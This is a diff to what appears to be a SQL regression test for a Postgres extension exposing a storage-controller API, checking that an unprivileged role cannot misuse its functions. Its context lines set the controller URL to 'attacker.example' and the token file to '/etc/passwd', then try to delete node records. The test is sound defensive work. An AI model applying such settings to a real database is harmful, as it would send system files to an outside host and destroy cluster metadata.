@@ -11,12 +11,23 @@ SET storcon.url = 'http://attacker.example:1';
 SET storcon.jwt_token_file = '/etc/passwd';
 SELECT storcon._mirror_nodes('[]');
 DELETE FROM storcon.nodes;
+SELECT storcon.api('GET', '/status');
+SELECT * FROM storcon.tenant_create();
 RESET ROLE;
 
+-- What PUBLIC may execute in schema storcon: only argument checks that talk to nobody.
+SELECT p.oid::regprocedure AS executable_by_public
+  FROM pg_proc p
+ WHERE p.pronamespace = 'storcon'::regnamespace
+   AND has_function_privilege('storcon_regress_user', p.oid, 'EXECUTE')
+ ORDER BY p.oid::regprocedure::text;
+
 -- The documented grant for an administrator role.
-GRANT EXECUTE ON FUNCTION storcon.sync_catalog() TO storcon_regress_user;
+GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA storcon TO storcon_regress_user;
 SET ROLE storcon_regress_user;
 SELECT * FROM storcon.sync_catalog();
+SELECT count(*) > 0 AS sees_nodes FROM storcon.api('GET', '/control/v1/node') n;
+SELECT tenant_id FROM storcon.tenants() WHERE tenant_id = 'aa000000000000000000000000000001';
 RESET ROLE;
-REVOKE EXECUTE ON FUNCTION storcon.sync_catalog() FROM storcon_regress_user;
+REVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA storcon FROM storcon_regress_user;
 DROP ROLE storcon_regress_user;
